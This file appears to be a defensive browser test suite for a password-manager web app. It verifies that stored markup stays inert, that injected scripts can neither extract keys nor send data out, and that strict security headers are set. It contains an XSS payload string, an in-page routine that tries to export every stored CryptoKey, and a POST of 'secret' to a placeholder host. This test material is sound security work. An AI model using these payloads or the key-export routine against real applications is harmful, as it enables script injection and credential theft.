// The page as an attacker meets it: what a route answers with, markup stored in every field, a script that was slipped in, and how much a first
// visit loads. That nothing asks anybody else is looked at in every test of the windows (sit.ts).

import { writeFileSync } from "node:fs";
import { get } from "node:http";
import { listedKinds } from "@holdfast/core";
import type { Locator } from "playwright-core";
import { expect, it } from "vitest";
import { importing } from "../support/in-and-out.ts";
import type { Seat } from "../support/seat.ts";
import { room, soon } from "../support/sit.ts";

const account = "kim@example.org";
const markup = `"><img src=x onerror="window.bitten=1"><script>window.bitten=1</script>{{7*7}}javascript:window.bitten=1`;
const firstLoadBytes = 250 * 1024;

/** As a browser gets it over https; without encryption browsers ask for no brotli. */
const compressedSize = (address: string): Promise<number> =>
  new Promise((resolve, reject) => {
    get(address, { headers: { "accept-encoding": "br" } }, (answer) => {
      let size = 0;
      answer.on("data", (piece: Buffer) => {
        size += piece.length;
      });
      answer.on("end", () => resolve(size));
    }).on("error", reject);
  });

const bitten = (seat: Seat): Promise<boolean> => seat.page.evaluate(() => Reflect.has(window, "bitten"));

/** What was stored stands in the window, as text: it has made no part of the page, and nothing ran. */
async function expectText(seat: Seat, within: Locator): Promise<void> {
  await within.getByText(markup).first().waitFor();
  expect(await seat.page.locator("img, script:not([src])").count()).toBe(0);
  expect(await bitten(seat)).toBe(false);
}

/** Every field of a kind, one that the person has named, and a tag. */
async function addMarkup(seat: Seat, kind: string): Promise<void> {
  await seat.begin(kind);
  const form = seat.page.getByRole("form", { name: /^New/ });
  await seat.button("Add field", form).click();
  for (const box of await form.locator("textarea, input:not([type=checkbox])").all()) await box.fill(markup);
  await seat.button("Save", form).click();
  await seat.button("Edit").waitFor();
}

async function showAll(seat: Seat): Promise<void> {
  const shows = seat.page.getByRole("main").getByRole("button", { name: /^Show / });
  const left = async (): Promise<number> => {
    await shows.evaluateAll((buttons) => {
      for (const button of buttons) if (button instanceof HTMLElement) button.click();
    });
    return shows.count();
  };
  await soon(left).toBe(0);
}

it("[C20] [attack 88] markup that was stored in any field of any kind is text in every window", async () => {
  const { path, sit } = await room();
  const laptop = await sit("laptop");
  const secretKey = await laptop.createAccount(account);
  const main = laptop.page.getByRole("main");
  await laptop.button("Add").click();
  const kinds = await laptop.page.getByRole("menuitem").allInnerTexts();
  await laptop.page.keyboard.press("Escape");
  expect(kinds).toHaveLength(listedKinds.length);
  for (const kind of kinds) {
    await addMarkup(laptop, kind.trim());
    await showAll(laptop);
    await expectText(laptop, main);
    // By key: what tells of the new item may lie over the button.
    await laptop.button(/^History/).press("Enter");
    await laptop.page.getByRole("heading", { level: 1, name: /^History of/ }).waitFor();
    await showAll(laptop);
    await expectText(laptop, main);
  }
  await laptop.upToDate();

  const other = await sit("other");
  await other.signIn(account, secretKey);
  const stored = other.option(/onerror/).first();
  await stored.waitFor();
  await other.page.getByRole("searchbox", { name: "Search" }).fill(markup);
  await expectText(other, stored);
  await stored.click();
  await other.status.click();
  await other.dialog("Synchronization").waitFor();
  await other.page.keyboard.press("Escape");
  await other.page.getByRole("link", { name: "Password check" }).click();
  await other.page.getByText(/could be better/).waitFor();
  await expectText(other, other.page.getByRole("main"));
  await other.page.getByRole("navigation").getByRole("link", { name: markup }).click();
  await stored.click();
  await other.page.getByRole("main").getByRole("button", { name: "Delete" }).click();
  await expectText(laptop, laptop.page.getByText(/was moved to the trash on/));
  await other.page.getByRole("link", { name: "Trash" }).click();
  await stored.click();
  await other.button("Restore").waitFor();
  await expectText(other, other.page.getByRole("main"));

  const csv = path("chrome.csv");
  const cell = `"${markup.replaceAll('"', '""')}"`;
  writeFileSync(csv, `name,url,username,password,note\n${Array(5).fill(cell).join(",")}\n`);
  // By way of the settings.
  await importing(other, csv);
  await other.button(/^Import 1/).waitFor();
  await expectText(other, other.dialog("Import"));
  await other.page.keyboard.press("Escape");

  // The address of a website opens where it is one, and is text where it is a script.
  await other.page.getByRole("link", { name: "Logins" }).click();
  await other
    .option(/onerror/)
    .first()
    .click();
  const tabs = other.context.pages().length;
  for (const open of await other.page.getByRole("button", { name: /^Open / }).all()) await open.click();
  for (const link of await other.page.getByRole("main").getByRole("link").all()) await link.click();
  expect(other.context.pages()).toHaveLength(tabs);
  expect(await bitten(other)).toBe(false);
});

it("[C20] [K9] a script that was slipped into the page makes no other policy, sends nothing away, and takes no key with it", async () => {
  const { sit } = await room();
  const laptop = await sit("laptop");
  const secretKey = await laptop.createAccount(account);
  await laptop.add("Login", { Title: "Bank", Password: "secret" });
  await laptop.upToDate();
  const heard = await laptop.page.evaluate(async (): Promise<readonly string[]> => {
    const found: string[] = [];
    // Every key that lies in the databases of this page, tried in every form.
    for (const { name } of await indexedDB.databases()) {
      if (name === undefined) continue;
      const database = await new Promise<IDBDatabase>((resolve, reject) => {
        const request = indexedDB.open(name);
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
      for (const store of database.objectStoreNames) {
        const values = await new Promise<readonly unknown[]>((resolve, reject) => {
          const request = database.transaction(store).objectStore(store).getAll();
          request.onsuccess = () => resolve(request.result);
          request.onerror = () => reject(request.error);
        });
        const keys: CryptoKey[] = [];
        const look = (value: unknown): void => {
          if (value instanceof CryptoKey) keys.push(value);
          else if (typeof value === "object" && value !== null && !ArrayBuffer.isView(value)) Object.values(value).forEach(look);
        };
        values.forEach(look);
        for (const key of keys) {
          for (const form of ["raw", "jwk", "pkcs8"] as const) {
            await crypto.subtle.exportKey(form, key).then(
              () => found.push(`exported ${form}`),
              () => found.push("kept"),
            );
          }
        }
      }
      database.close();
    }
    return found;
  });
  expect(new Set(heard)).toEqual(new Set(["kept"]));

  // Nor does a listener on the channel of the tabs hear one, whatever the person does in two of them.
  const spied = await laptop.page.evaluateHandle(() => {
    const said: string[] = [];
    new BroadcastChannel("holdfast device").onmessage = ({ data }) => said.push(JSON.stringify(data));
    return said;
  });
  const second = await laptop.tab();
  await second.inside();
  await second.lock();
  await second.unlock();
  await second.choose(/Bank/);
  const said = (await spied.evaluate((all) => all)).join("\n");
  expect(said).toContain("Bank");
  expect(said).not.toContain(secretKey);
  expect(said).not.toContain(secretKey.replaceAll("-", ""));
  expect(said).not.toMatch(/ring|signInSeed|epochs/);

  const tried = await second.page.evaluate(async () => {
    const named = (work: () => unknown): string => {
      try {
        work();
        return "done";
      } catch (failure) {
        return failure instanceof Error ? failure.name : "thrown";
      }
    };
    // A name that nobody has fails without a policy as well: what refuses says so itself.
    const refusedBy = (address: string): Promise<string> =>
      new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ blockedURI, effectiveDirective }) => {
          if (blockedURI === address) resolve(effectiveDirective);
        });
        fetch(address, { method: "POST", body: "secret" }).catch(() => setTimeout(resolve, 5_000, "no policy"));
      });
    const createPolicy = (name: string): unknown => window.trustedTypes?.createPolicy(name, { createScriptURL: (address) => address });
    return {
      policy: named(() => createPolicy("other")),
      again: named(() => createPolicy("holdfast")),
      worker: named(() => new Worker(URL.createObjectURL(new Blob(["1"])))),
      markup: named(() => {
        document.body.innerHTML = "<b>no</b>";
      }),
      script: named(() => {
        const inline = document.createElement("script");
        inline.textContent = "window.bitten = 1";
        document.body.append(inline);
      }),
      elsewhere: await refusedBy("https://example.invalid/"),
    };
  });
  expect(tried).toMatchObject({
    policy: "TypeError",
    again: "TypeError",
    worker: "TypeError",
    markup: "TypeError",
    script: "TypeError",
    elsewhere: "connect-src",
  });
  expect(await bitten(second)).toBe(false);
  laptop.forgive(/Content Security Policy|TrustedTypes|Trusted/i);
});

it("every route of the app bears the headers, and a first visit loads at most 250 KiB of script", async () => {
  const { server, sit } = await room();
  const seat = await sit("laptop");
  await seat.button("Create account").click();
  const loaded = await seat.page.evaluate(() => performance.getEntriesByType("resource").map(({ name }) => name));
  // The worker's own script is one of them.
  const scripts = loaded.filter((name) => new URL(name).pathname.endsWith(".js"));
  expect(scripts.some((name) => name.includes("vault-worker"))).toBe(true);
  const sizes = await Promise.all(scripts.map(compressedSize));
  const bytes = sizes.reduce((sum, size) => sum + size, 0);
  expect(bytes).toBeGreaterThan(100 * 1024);
  expect(bytes).toBeLessThanOrEqual(firstLoadBytes);

  for (const path of ["/", "/icon.svg", "/manifest.webmanifest", "/service-worker.js", new URL(scripts[0] ?? "").pathname]) {
    const { headers, status } = await fetch(new URL(path, server.url));
    expect(status, path).toBe(200);
    const policy = headers.get("content-security-policy") ?? "";
    for (const part of [
      "default-src 'none'",
      "script-src 'self'",
      "trusted-types holdfast",
      "require-trusted-types-for 'script'",
      "frame-ancestors 'none'",
    ]) {
      expect(policy, path).toContain(part);
    }
    expect(policy, path).not.toMatch(/'unsafe-(?:inline|eval)'|https?:|\*/);
    expect(headers.get("x-content-type-options"), path).toBe("nosniff");
    expect(headers.get("referrer-policy"), path).toBe("no-referrer");
    expect(headers.get("cross-origin-opener-policy"), path).toBe("same-origin");
    expect(headers.get("set-cookie"), path).toBe(null);
  }
  expect(await seat.context.cookies()).toEqual([]);
});
